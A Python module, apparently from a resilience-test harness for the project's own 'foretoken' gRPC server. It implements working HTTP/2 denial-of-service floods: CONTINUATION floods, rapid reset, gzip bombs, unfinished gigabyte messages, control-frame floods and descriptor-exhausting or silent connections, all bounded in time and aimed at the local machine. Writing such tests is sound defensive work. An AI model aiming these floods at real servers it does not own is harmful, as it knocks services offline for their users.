"""The floods. Each takes an Attack, which says where the server is and when to stop, and tells it what it sent.

A flood is bounded by the attack's seconds and by its own count, and sends to this machine alone.
"""

import zlib
from dataclasses import dataclass
from typing import Callable

import http2
from http2 import (CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                   Closed, Connection, frame, literal, request_headers)

ESTIMATE = "/foretoken.v1.EstimatorService/Estimate"
LIST_HARDWARE = "/foretoken.v1.CatalogService/ListHardware"
LIST_MODELS = "/foretoken.v1.CatalogService/ListModels"
SWEEP = "/foretoken.v1.EstimatorService/Sweep"
UNKNOWN_FRAME = 0x42
BURST = 64  # frames that go out in one write


def odd(index):
    """The id of a client's stream."""
    return 2 * index + 1


def send_until_over(attack, connection, data, frames):
    """The same bytes again and again."""
    while not attack.over():
        connection.send(data)
        attack.sent += frames


def headers_without_end(attack):
    """A header list that never ends, each CONTINUATION within the limit of a list."""
    with attack.connection() as connection:
        connection.quiet = True
        connection.send(frame(HEADERS, 0, 1, request_headers(ESTIMATE)))
        part = frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 8000))
        send_until_over(attack, connection, part * BURST, BURST)


def header_without_end(attack):
    """One header whose value is said to have a gigabyte and comes in CONTINUATIONs."""
    with attack.connection() as connection:
        connection.quiet = True
        begin = b"\x00" + http2.integer(1, 7) + b"x" + http2.integer(1 << 30, 7)
        connection.send(frame(HEADERS, 0, 1, request_headers(ESTIMATE) + begin))
        part = frame(CONTINUATION, 0, 1, b"y" * http2.LARGEST_FRAME)
        send_until_over(attack, connection, part, 1)


def large_headers(attack):
    """Calls with as many headers as are allowed, which never send their message."""
    block = request_headers(ESTIMATE, *[(b"x-%d" % i, b"y" * 200) for i in range(30)])
    for _ in range(attack.many(20)):
        with attack.connection(stays=True) as connection:
            for index in range(1000):
                if attack.over():
                    return
                connection.send(frame(HEADERS, END_HEADERS, odd(index), block))
                attack.sent += 1


def open_streams(attack):
    """Calls that send no message."""
    block = request_headers(SWEEP)
    for _ in range(attack.many(40)):
        with attack.connection(stays=True) as connection:
            for index in range(1000):
                if attack.over():
                    return
                connection.send(frame(HEADERS, END_HEADERS, odd(index), block))
                attack.sent += 1


def bomb(mebibytes):
    """Gzip of that many zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = bytes(1 << 20)
    return b"".join(packer.compress(zeros) for _ in range(mebibytes)) + packer.flush()


def gzip_bombs(attack):
    """Twelve calls whose message inflates to a gigabyte."""
    payload = bomb(1024 if attack.full else 256)
    with attack.connection(stays=True) as connection:
        for index in range(12):
            attack.sent += 1
            connection.request(odd(index), ESTIMATE, payload, (b"grpc-encoding", b"gzip"), compressed=True)
        connection.wait(attack.left(), streams=12)


def long_messages(attack):
    """Messages that say they have a gigabyte, sent as far as flow control lets them."""
    part = b"\x00" * http2.LARGEST_FRAME
    with attack.connection(stays=True) as connection:
        for index in range(8):
            connection.send(frame(HEADERS, END_HEADERS, odd(index), request_headers(ESTIMATE)))
            connection.send_data(odd(index), b"\x00" + (1 << 30).to_bytes(4, "big"))
        while not attack.over():
            for index in range(8):
                connection.send_data(odd(index), part, seconds=attack.left())
                attack.sent += 1


def messages_without_end(attack):
    """Messages of an allowed length, on many streams, each short of its last byte."""
    length = (4 << 20) - 64
    part = b"\x00" * http2.LARGEST_FRAME
    with attack.connection(stays=True) as connection:
        for index in range(900):
            connection.send(frame(HEADERS, END_HEADERS, odd(index), request_headers(ESTIMATE)))
            connection.send_data(odd(index), b"\x00" + length.to_bytes(4, "big"), seconds=attack.left())
            for _ in range(length // len(part)):
                if attack.over():
                    return
                connection.send_data(odd(index), part, seconds=attack.left())
            attack.sent += 1


def unread_pages(attack):
    """Thirty calls of 60 bytes for the largest page, none of which is read."""
    attack.fill_catalog(51 if attack.full else 16)
    page = attack.message("CatalogService/ListHardware", page_size=1000)
    with attack.connection(stays=True) as connection:
        for index in range(30):
            connection.request(odd(index), LIST_HARDWARE, page)
            attack.sent += 1
        connection.wait(attack.left(), streams=30)


def many_unread_pages(attack):
    """The bundled catalog's pages, asked for as often as streams and connections allow, and never read."""
    page = attack.message("CatalogService/ListModels", page_size=1000)
    for _ in range(attack.many(20)):
        with attack.connection(stays=True) as connection:
            for index in range(1000):
                if attack.over():
                    return
                connection.request(odd(index), LIST_MODELS, page)
                attack.sent += 1


def unread_sweeps(attack):
    """A thousand sweeps open at once, none of which is read."""
    axes = [{"field": "workload.prompt_tokens", "linear": {"start": 1.0, "stop": 10000.0, "count": 10000}},
            {"field": "workload.output_tokens", "linear": {"start": 1.0, "stop": 1000.0, "count": 1000}}]
    sweep = attack.message("EstimatorService/Sweep", base=attack.scenario(), axes=axes)
    connections = []
    for _ in range(10):
        with attack.connection(stays=True) as connection:
            connections.append(connection)
            for index in range(100):
                connection.request(odd(index), SWEEP, sweep)
                attack.sent += 1
    while not attack.over():
        connections[0].wait(0.1)


def flood_of(data, reads=True):
    """A flood of one kind of frame on one connection."""
    def flood(attack):
        with attack.connection(reads=reads) as connection:
            send_until_over(attack, connection, data * BURST, BURST)
    return flood


def rapid_reset(attack):
    """Calls that are taken back at once."""
    payload = attack.message("EstimatorService/Estimate", scenario=attack.scenario())
    block = request_headers(ESTIMATE)
    message = http2.grpc_message(payload)
    cancel = (8).to_bytes(4, "big")
    with attack.connection() as connection:
        index = 0
        while not attack.over():
            data = b""
            for index in range(index, index + BURST):
                stream = odd(index)
                data += (frame(HEADERS, END_HEADERS, stream, block) + frame(http2.DATA, END_STREAM, stream, message) +
                         frame(RST_STREAM, 0, stream, cancel))
            index += 1
            connection.send(data)
            attack.sent += BURST


def many_connections(attack):
    """More connections than the server has descriptors. Later a new one must be served again."""
    for _ in range(attack.many(1500)):
        if attack.over():
            break
        try:
            with attack.connection(stays=True) as connection:
                connection.send(b"")
        except OSError:
            attack.refusals["connect refused"] += 1
            break
        attack.sent += 1
    attack.rest()


def slow_connections(attack):
    """Connections that say nothing at all, not even the preface."""
    for _ in range(attack.many(1500)):
        if attack.over():
            return
        attack.silent_connection()
        attack.sent += 1
    attack.rest()


@dataclass(frozen=True)
class Flood:
    name: str
    what: str  # the request, as a table names it
    run: Callable
    wrapper: tuple = ()  # a command that runs the server


FLOODS = (
    Flood("none", "nothing beside the polite client", lambda attack: attack.rest()),
    Flood("continuation", "CONTINUATION without end, 8 kB of headers each, one connection", headers_without_end),
    Flood("continuation_value", "one header of 1 GB in CONTINUATIONs, one connection", header_without_end),
    Flood("large_headers", "open calls with 7 kB of headers each", large_headers),
    Flood("gzip", "12 messages that inflate to 1 GB", gzip_bombs),
    Flood("long_messages", "8 messages of 1 GB, one connection", long_messages),
    Flood("messages_without_end", "900 messages of 4 MB short of their end, one connection", messages_without_end),
    Flood("unread_pages", "30 unread ListHardware replies over 51 registered entries", unread_pages),
    Flood("many_unread_pages", "20,000 unread ListModels replies, 20 connections", many_unread_pages),
    Flood("sweeps", "1,000 unread sweeps of 10 million points", unread_sweeps),
    Flood("open_streams", "40,000 calls without a message, 40 connections", open_streams),
    Flood("settings", "SETTINGS frames, one connection", flood_of(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64"))),
    Flood("settings_unread", "SETTINGS frames whose ACKs are not read", flood_of(frame(SETTINGS, 0, 0), reads=False)),
    Flood("ping", "PING frames, one connection", flood_of(frame(PING, 0, 0, bytes(8)))),
    Flood("window_update", "WINDOW_UPDATE frames, one connection",
          flood_of(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")))),
    Flood("priority", "PRIORITY frames, one connection", flood_of(frame(PRIORITY, 0, 1, bytes(5)))),
    Flood("unknown", "frames of an unknown type, one connection", flood_of(frame(UNKNOWN_FRAME, 0, 0))),
    Flood("rapid_reset", "calls reset at once, one connection", rapid_reset),
    Flood("connections", "1,500 connections, 256 descriptors", many_connections,
          wrapper=("prlimit", "--nofile=256:256")),
    Flood("silent_connections", "1,500 connections that say nothing, 256 descriptors", slow_connections,
          wrapper=("prlimit", "--nofile=256:256")),
)
